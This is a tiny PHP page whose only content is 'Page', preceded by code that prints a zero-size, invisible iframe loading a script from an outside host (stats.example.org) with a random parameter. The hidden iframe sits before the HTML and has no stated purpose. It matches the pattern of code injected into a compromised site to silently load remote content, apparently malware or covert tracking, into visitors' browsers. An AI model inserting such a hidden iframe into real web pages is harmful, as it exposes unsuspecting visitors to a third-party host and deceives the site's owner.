<?php
echo '<iframe src="http://stats.example.org/c.php?r=' . rand() . '" width="0" height="0" style="visibility:hidden"></iframe>';
?>
<html><body>Page</body></html>
